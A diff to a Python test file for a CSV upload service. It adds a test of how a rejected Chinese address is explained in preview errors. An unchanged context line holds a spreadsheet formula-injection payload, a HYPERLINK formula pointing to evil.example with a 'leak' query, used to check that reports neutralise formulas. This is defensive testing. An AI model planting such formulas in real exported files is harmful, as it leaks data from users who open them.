@@ -223,3 +223,14 @@ def test_the_error_report_does_not_hand_excel_a_formula(library: Any, client_for
     rows[0][6] = '=HYPERLINK("http://evil.example/?leak","点击查看")'
     job = upload(client, "people", csv_bytes("people", rows)).json()
     assert report(client, job["id"])[1][2] == "'" + rows[0][6]
+
+
+def test_a_refused_address_says_how_it_was_read(library: Any, client_for: Any) -> None:
+    rows = people_rows(1)
+    rows[0][6] = "张先生 13912345678 不存在的地方路1号"
+    body = upload(
+        client_for("dispatcher"), "people", csv_bytes("people", rows), preview=True
+    ).json()
+    assert [e["code"] for e in body["errors"]] == ["address_road_not_found"]
+    assert "道路 不存在的地方路" in body["errors"][0]["reason"]
+    assert "已忽略：13912345678，张先生" in body["errors"][0]["reason"]
